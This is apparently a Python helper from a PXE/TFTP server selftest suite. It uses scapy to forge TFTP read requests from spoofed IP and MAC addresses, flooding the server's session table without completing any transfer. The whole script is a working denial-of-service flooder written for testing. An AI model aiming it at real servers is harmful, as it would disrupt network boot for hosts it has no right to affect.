#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Forged TFTP read requests for the pxe selftests, crafted with scapy: what
an attacker on the LAN sends to fill the server's session table without
ever completing a transfer.

  tftp_spoof.py IFACE SERVER_MAC SERVER NAME --count N --sources A.B.C.D --hosts H
                [--timeout S] [--blksize N] [--then CMD...]
      Send N RRQs for NAME to SERVER:69 out of IFACE, from H source
      addresses counted up from --sources (round robin) and random source
      ports, each with option "timeout S" (and "blksize N" when given),
      Ethernet source a locally administered MAC per address.  The frames
      are built first and sent back to back on one socket.  Prints
      "sent N in SECS s" (from the first frame to the last), then
      "first EPOCH" (the wall-clock time of the first frame).  With --then,
      runs CMD (the rest of the arguments) at once after the last frame,
      prints "then EPOCH" (when CMD was started) and exits with its status.
"""
import argparse
import ipaddress
import random
import subprocess
import sys
import time

from scapy.all import Ether, IP, UDP, Raw, conf  # noqa: E402
from scapy.layers.tftp import TFTP, TFTP_RRQ, TFTP_Options, TFTP_Option


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("iface")
    parser.add_argument("server_mac")
    parser.add_argument("server")
    parser.add_argument("name")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--sources", required=True)
    parser.add_argument("--hosts", type=int, required=True)
    parser.add_argument("--timeout", type=int, default=255)
    parser.add_argument("--blksize", type=int)
    parser.add_argument("--then", nargs=argparse.REMAINDER)
    args = parser.parse_args()

    first = ipaddress.IPv4Address(args.sources)
    options = [TFTP_Option(oname=b"timeout", value=str(args.timeout).encode())]
    if args.blksize:
        options.append(TFTP_Option(oname=b"blksize", value=str(args.blksize).encode()))
    ports = random.sample(range(1024, 65536), args.count)
    frames = []
    for i in range(args.count):
        host = i % args.hosts
        src = str(first + host)
        mac = "02:00:00:00:%02x:%02x" % (host >> 8, host & 0xFF)
        frame = (Ether(src=mac, dst=args.server_mac) /
                 IP(src=src, dst=args.server) /
                 UDP(sport=ports[i], dport=69) /
                 TFTP() / TFTP_RRQ(filename=args.name.encode(), mode=b"octet") /
                 TFTP_Options(options=options))
        frames.append(bytes(frame))
    sock = conf.L2socket(iface=args.iface)
    first = time.time()
    start = time.monotonic()
    for frame in frames:
        sock.send(Raw(frame))
    elapsed = time.monotonic() - start
    then = time.time()
    rc = subprocess.call(args.then) if args.then else 0
    sock.close()
    print("sent %d in %.3f s" % (len(frames), elapsed))
    print("first %.3f" % first)
    if args.then:
        print("then %.3f" % then)
    return rc


if __name__ == "__main__":
    sys.exit(main())
